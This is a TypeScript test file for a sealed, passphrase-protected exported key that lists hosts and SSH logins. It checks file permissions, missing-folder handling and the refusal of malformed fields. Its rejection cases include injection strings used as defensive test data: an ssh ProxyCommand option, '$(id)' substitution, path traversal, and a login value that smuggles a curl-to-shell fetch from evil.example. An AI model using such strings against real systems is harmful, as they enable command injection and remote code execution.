import { chmodSync, existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { concat } from '../../../../src/base/bytes.ts';
import {
  type ExportedKey,
  isSealedFile,
  openExportedKey,
  readSealedText,
  writeExportedKey,
} from '../../../../src/client/keys/exported-key.ts';
import { newSealKey, type Secrets, seal } from '../../../../src/client/keys/sealed-key-file.ts';
import { nodeCrypto } from '../../../../src/spa/crypto-node.ts';
import { formatGateLine } from '../../../../src/spa/enrolment.ts';
import { formatKey } from '../../../../src/spa/keys.ts';
import { expectMode, pair, problemOf, temporaryFolder } from '../support.ts';

const PASSPHRASE = 'correct horse battery staple';
const IO = {
  crypto: nodeCrypto,
  deriveKey: async (passphrase: Uint8Array, salt: Uint8Array) => nodeCrypto.sha256(concat(salt, passphrase)),
};
const gate = { key: pair.gatePublic, slots: 32, addresses: ['192.0.2.2'], knockPorts: [443], name: 'prod' };
const KEY: ExportedKey = {
  identity: 'recovery',
  key: new Uint8Array(32).fill(7),
  hosts: new Map([['prod', { gate, login: 'ssh://root@192.0.2.2:22' }]]),
};

let path: string;
beforeEach(() => {
  path = join(temporaryFolder(), 'key');
});

const write = async (exported = KEY) => writeExportedKey(path, exported, await newSealKey(PASSPHRASE, IO), IO, 'x');

describe('an exported key', () => {
  it('comes back with the hosts that it opens', async () => {
    const text = await write();
    expect(readSealedText(path)).toBe(text);
    expect((await openExportedKey(text, PASSPHRASE, path, IO)).exported).toEqual(KEY);
  });

  it('is for its owner alone, even if it replaces a file that was for everybody', async () => {
    writeFileSync(path, 'notes');
    chmodSync(path, 0o644);
    expect(isSealedFile(path)).toBe(false);
    await write();
    expect(isSealedFile(path)).toBe(true);
    expectMode(path, 0o600);
  });

  it('is not written into a folder that is not there: a disk that is not mounted would hide it', async () => {
    path = join(path, 'stick', 'key');
    expect((await problemOf(() => write())).code).toBe('file-unusable');
    expect(existsSync(path)).toBe(false);
  });

  const good: [string, string][] = [
    ['identity', 'recovery'],
    ['key', formatKey(KEY.key)],
    ['gate/prod', formatGateLine(gate)],
    ['login/prod', 'ssh://root@192.0.2.2:22'],
  ];
  it.each<[string, string, string | undefined]>([
    ['no key', 'key', undefined],
    ['a short key', 'key', 'AAAA'],
    ['a name that is a path', 'identity', '../id'],
    ['half a gate', 'gate/prod', 'knockgate1 gate'],
    ['no way to log in', 'login/prod', undefined],
    ['options for ssh', 'login/prod', '-oProxyCommand=x'],
    ['a command for the shell', 'login/prod', 'ssh://u@h;curl$IFS-s$IFS/evil.example|sh'],
    ['a command in a name', 'login/prod', 'ssh://u@$(id)'],
    ['no host', 'login/prod', 'ssh://u@'],
    ['two lines for ssh', 'login/prod', 'ssh://root@a\nb'],
    ['a name that begins with a hyphen', 'gate/-x', formatGateLine(gate)],
  ])('is refused when it has %s', async (_, field, value) => {
    const others = good.filter(([name]) => name !== field);
    const secrets: Secrets = new Map(value === undefined ? others : [...others, [field, value]]);
    const text = seal(secrets, await newSealKey(PASSPHRASE, IO), IO);
    expect((await problemOf(() => openExportedKey(text, PASSPHRASE, 'key', IO))).code).toBe('sealed-file-invalid');
  });
});
